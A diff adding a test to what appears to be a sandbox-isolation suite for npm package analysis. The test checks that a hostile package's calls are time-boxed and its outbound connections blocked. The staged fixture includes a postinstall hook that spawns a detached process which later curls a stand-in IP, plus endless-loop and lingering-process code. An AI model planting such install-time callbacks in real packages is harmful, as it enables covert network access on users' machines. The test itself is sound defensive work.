@@ -177,6 +177,54 @@ describe('sandbox isolation: limits end hostile workloads with a result', () => 
   });
 });
 
+describe('sandbox isolation: the execute, idle and next-login phases', () => {
+  it('time-boxes hostile calls, follows leftovers through a fast clock to their end, runs a year ahead, and nothing leaves', async () => {
+    const staged = await stageNpm({
+      name: 'hostile-later',
+      scripts: { postinstall: 'node post.js' },
+      bin: { 'hostile-later': 'cli.js' },
+      files: {
+        // At install: print the year; leave a child that connects out after an hour of sleep.
+        'post.js': `console.log('year=' + new Date().getFullYear());
+require('child_process').spawn('sh', ['-c', 'sleep 3600; curl -s -m 2 http://203.0.113.10/late; echo late=$?'], { detached: true, stdio: 'ignore' }).unref();`,
+        'index.js': `exports.spin = () => { for (;;) {} };
+exports.fork = () => { require('child_process').spawn('sleep', ['86400'], { detached: true, stdio: 'ignore' }).unref(); };
+exports.call = () => { require('child_process').execSync('curl -s -m 2 http://203.0.113.10/call || true'); };`,
+        'cli.js': '#!/usr/bin/env node\nsetInterval(() => {}, 1000);\n',
+      },
+    });
+    const r = await runSandbox({
+      analysisId: newId(),
+      staged,
+      phases: ['install', 'import', 'execute', 'idle', 'next-login'],
+      limits: { graceMs: 500, phaseTimeoutMs: 120_000 },
+      later: { callMs: 1500, executeMs: 20_000, idleWindowMs: 2000, idleSpanS: 7200 },
+    });
+    const phase = (name: string) => r.phases.find((p) => p.name === name)!;
+    expect(r.phases.map((p) => p.name)).toEqual(['install', 'import', 'execute', 'idle', 'next-login']);
+    expect(phase('install').status).toBe('completed');
+    // The endless call and the bin that never exits are cut at their time box; the phase goes on.
+    expect(phase('execute').status).toBe('completed');
+    expect(r.calls.find((c) => c.name === 'spin()')?.outcome).toBe('timeout');
+    expect(r.calls.find((c) => c.name === 'hostile-later')?.outcome).toBe('timeout');
+    expect(r.calls.some((c) => c.name === 'call()' && c.outcome === 'returned')).toBe(true);
+    // The leftover's hour passed in the window; the install and import ran again a year ahead.
+    expect(r.sandbox.clock?.windowStartMs).toBeDefined();
+    expect(r.sandbox.clock?.rate).toBe(3600);
+    const year = new Date().getFullYear();
+    expect(phase('install').stdoutTail).toContain(`year=${year}`);
+    expect(phase('idle').stdoutTail).toContain(`year=${year + 1}`);
+    expect(phase('next-login').reason).toBe('nothing was planted to run at the next login');
+    // Traces were copied out after the last phase; the late connection and the call's both failed to leave.
+    const install = await readFile(phase('install').trace, 'utf8');
+    expect(install).toMatch(/connect\(\d+<TCP:[^>]*>, \{sa_family=AF_INET, sin_port=htons\(80\), sin_addr=inet_addr\("203\.0\.113\.10"\)\}, \d+\) = -1 ENETUNREACH/);
+    const execute = await readFile(phase('execute').trace, 'utf8');
+    expect(execute).toMatch(/203\.0\.113\.10.*ENETUNREACH/);
+    // What still ran when the last phase ended (a day-long sleep) was killed, in its own phase's trace.
+    expect(execute).toMatch(/\+\+\+ killed by SIGKILL \+\+\+/);
+  }, 600_000);
+});
+
 describe('sandbox lifecycle', () => {
   it('a cancelled analysis kills and removes its container within seconds', async () => {
     const staged = await stageNpm({ name: 'slow-install', scripts: { postinstall: 'sleep 120' }, files: { 'index.js': '' } });
